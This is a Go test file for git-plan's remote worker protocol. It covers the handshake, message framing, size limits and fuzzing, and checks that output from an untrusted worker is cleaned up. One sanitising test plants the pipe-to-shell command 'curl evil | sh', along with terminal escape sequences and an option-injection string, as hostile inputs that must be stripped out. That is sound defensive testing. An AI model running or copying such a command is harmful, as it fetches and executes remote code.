package remote

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"strings"
	"testing"

	"github.com/git-plan/git-plan/gitplan/agent"
	"github.com/git-plan/git-plan/gitplan/journal"
)

// Near sends first, and accepts only the answer to its own message, whatever is printed before it.
func TestWorkerAnswers(t *testing.T) {
	const right = "\x00git-plan-worker 3 abc\n"
	for name, c := range map[string]struct{ said, why string }{
		"at once":              {said: right},
		"after a welcome":      {said: "Welcome\r\nto box\n" + right},
		"after a prompt":       {said: "$ " + right},
		"after 10 KB":          {said: strings.Repeat("x", 10<<10) + right},
		"nothing":              {why: "no worker answers"},
		"only noise":           {said: "not found\n", why: "no worker answers"},
		"another's answer":     {said: "\x00git-plan-worker 3 xyz\n", why: "no worker answers"},
		"through a terminal":   {said: "\x00git-plan-worker 3 abc\r\n", why: errTerminal.Error()},
		"another version":      {said: "\x00git-plan-worker 7 abc\n", why: `the worker speaks version "7" of the protocol, this git plan version "3"`},
		"lines without an end": {said: strings.Repeat("y\n", 60<<10), why: "no worker answers"},
		"one long line":        {said: strings.Repeat("z", 1<<20), why: "no worker answers"},
	} {
		t.Run(name, func(t *testing.T) {
			var sent bytes.Buffer
			conn, err := Call(strings.NewReader(c.said), &sent, "abc")
			switch {
			case sent.String() != "git-plan-wire 3 abc\n":
				t.Errorf("it said %q", sent.String())
			case c.why == "" && (err != nil || conn == nil):
				t.Errorf("no connection: %v", err)
			case c.why != "" && (err == nil || err.Error() != c.why):
				t.Errorf("the error is %#v", err)
			}
		})
	}
}

func TestMessagesToAWorker(t *testing.T) {
	for said, ok := range map[string]bool{"git-plan-wire 3 n\n": true, "git-plan-wire 1 n\n": false, "ls\n": false, "": false, strings.Repeat("x", 1<<20): false} {
		if _, err := Answer(strings.NewReader(said), io.Discard); (err == nil) != ok {
			t.Errorf("%.30q: %v", said, err)
		}
	}
}

// connected are two ends.
func connected() (near, far *Conn) {
	a, b := io.Pipe()
	c, d := io.Pipe()
	return &Conn{r: bufio.NewReader(a), w: d}, &Conn{r: bufio.NewReader(c), w: b}
}

// Messages arrive complete, and in order.
func TestMessagesArriveComplete(t *testing.T) {
	near, far := connected()
	large := bytes.Repeat([]byte("a line\n\x00"), 50_000)
	go func() {
		_ = far.Send(FrameHello, Greeting{About: "1"})
		_ = far.SendStream(FrameTree, "x", func(w io.Writer) error {
			_, err := w.Write(large)
			return err
		})
		_ = far.Send(FrameResult, agent.Result{Status: agent.Done})
	}()
	if g, err := receive[Greeting](near, FrameHello); err != nil || g.About != "1" {
		t.Fatal(g, err)
	}
	s := &stream{c: near, left: int64(len(large))}
	got, err := io.ReadAll(s)
	name, unread := decode[string](s.end)
	if err != nil || !bytes.Equal(got, large) || unread != nil || name != "x" {
		t.Fatalf("%d bytes came, %v", len(got), err)
	}
	if _, err := near.Next(FrameEvent, FrameResult); err != nil {
		t.Error(err)
	}
}

// Any other message ends the connection.
func TestUnexpectedMessagesAreRefused(t *testing.T) {
	frame := func(k Kind, n int, rest string) string { return string([]byte{byte(k), 0, 0, 0, byte(n)}) + rest }
	for name, c := range map[string]struct{ said, want string }{
		"the end":         {"", "EOF"},
		"half a header":   {"R\x00\x00", "unexpected EOF"},
		"half a payload":  {frame(FrameResult, 9, "{}"), "unexpected EOF"},
		"too large":       {"R\x7f\xff\xff\xff", "a frame 'R' of 2147483647 bytes is too large"},
		"no newline":      {frame(FrameResult, 2, "{}X"), errTerminal.Error()},
		"another kind":    {frame(FrameJob, 2, "{}\n"), "a frame 'J' is not expected here"},
		"an unknown kind": {frame('~', 0, "\n"), "a frame '~' is not expected here"},
	} {
		if _, err := (&Conn{r: bufio.NewReader(strings.NewReader(c.said))}).Next(FrameResult); err == nil || err.Error() != c.want {
			t.Errorf("%s: %v", name, err)
		}
	}
	near := &Conn{r: bufio.NewReader(strings.NewReader(frame(FrameBytes, 5, "12345\n")))}
	if _, err := io.ReadAll(&stream{c: near, left: 4}); err == nil || err.Error() != "it is too large" {
		t.Errorf("a large stream: %v", err)
	}
	if err := near.Send(FrameResult, strings.Repeat("x", maxFrame)); err == nil {
		t.Error("a frame that is too large was sent")
	}
}

// The length of a message exchange is limited.
func TestMessagesAreBounded(t *testing.T) {
	one := append([]byte{byte(FrameEvent), 0, 15, 0, 0}, append(bytes.Repeat([]byte("x"), 15<<16), '\n')...)
	near := &Conn{r: bufio.NewReader(io.MultiReader(endless(one)))}
	var err error
	n := 0
	for ; err == nil && n < 1000; n++ {
		_, err = near.Next(FrameEvent)
	}
	if err == nil || n != maxReceived/(15<<16)+1 {
		t.Errorf("it ended after %d: %v", n, err)
	}
	near = &Conn{r: bufio.NewReader(endless([]byte("e\x00\x00\x00\x02{}\n")))}
	for n, err = 0, nil; err == nil && n < 1<<20; n++ {
		_, err = near.Next(FrameEvent)
	}
	if err == nil || n != maxReceived/perFrame+1 {
		t.Errorf("small messages ended after %d: %v", n, err)
	}
}

func endless(text []byte) io.Reader {
	at := 0
	return readerFunc(func(p []byte) (int, error) {
		n := copy(p, text[at:])
		at = (at + n) % len(text)
		return n, nil
	})
}

type readerFunc func([]byte) (int, error)

func (f readerFunc) Read(p []byte) (int, error) { return f(p) }

// Numbers and texts of an untrusted worker are limited, and cannot be interpreted as escape sequences.
func TestUntrustedTextIsSanitised(t *testing.T) {
	code := 1 << 20
	r := TidyResult(agent.Result{Status: "made up", Next: "curl evil | sh", Reason: "a\x1b[2Jb\nc", Agent: "x\ny", RetryAfter: math.MinInt64, ExitCode: &code, Summary: strings.Repeat("s", 1<<20)})
	if r.Status != agent.Failed || r.Next != "" || strings.ContainsAny(r.Reason+r.Agent, "\x1b\n") || r.RetryAfter != 0 || *r.ExitCode != 255 || len(r.Summary) > agent.MaxReport+10 {
		t.Errorf("the result is %+v", r)
	}
	if e, ok := TidyEvent(agent.Event{Kind: agent.SaidText, Text: "a\x1b]0;x\a\n"}); !ok || strings.ContainsAny(e.Text, "\x1b\n") {
		t.Errorf("the event is %+v", e)
	}
	if _, ok := TidyEvent(agent.Event{Kind: "made up"}); ok {
		t.Error("an invented kind is accepted")
	}
	for name, ok := range map[string]bool{strings.Repeat("a", 40): true, strings.Repeat("A", 40): false, "HEAD": false, "": false, strings.Repeat("a", 63): false, "--output=" + strings.Repeat("a", 31): false} {
		if journal.IsOID(name) != ok {
			t.Errorf("%q", name)
		}
	}
}

// FuzzFrames feeds near what any worker might send.
func FuzzFrames(f *testing.F) {
	f.Add([]byte("R\x00\x00\x00\x02{}\n"))
	f.Add([]byte("B\x00\x00\x00\x01x\nT\x00\x00\x00\x02{}\n"))
	f.Add([]byte("e\x00\x00\x00\x0f{\"Kind\":\"text\"}\n"))
	f.Fuzz(func(t *testing.T, all []byte) {
		c := &Conn{r: bufio.NewReader(bytes.NewReader(all))}
		for read := 0; ; {
			said, err := c.Next(FrameHello, FrameEvent, FrameUsage, FrameTurn, FrameBytes, FrameTree, FrameResult)
			if err != nil {
				return
			}
			if read += len(said.Payload); read > len(all) {
				t.Fatal("more than was reported")
			}
			if said.Kind == FrameBytes || said.Kind == FrameTree {
				s := &stream{c: c, left: 1 << 20}
				if s.take(said) == nil {
					_, _ = io.Copy(io.Discard, s)
				}
				continue
			}
			var (
				e agent.Event
				r agent.Result
			)
			_ = json.Unmarshal(said.Payload, &e)
			_ = json.Unmarshal(said.Payload, &r)
			e, _ = TidyEvent(e)
			r = TidyResult(r)
			if s := fmt.Sprint(e.Text, e.Tool, r.Reason, r.Agent); strings.ContainsAny(s, "\x1b\x00") {
				t.Fatalf("hostile text: %q", s)
			}
			if r.Tokens.Out < 0 || r.Cost.USD < 0 {
				t.Fatal("a negative amount")
			}
		}
	})
}
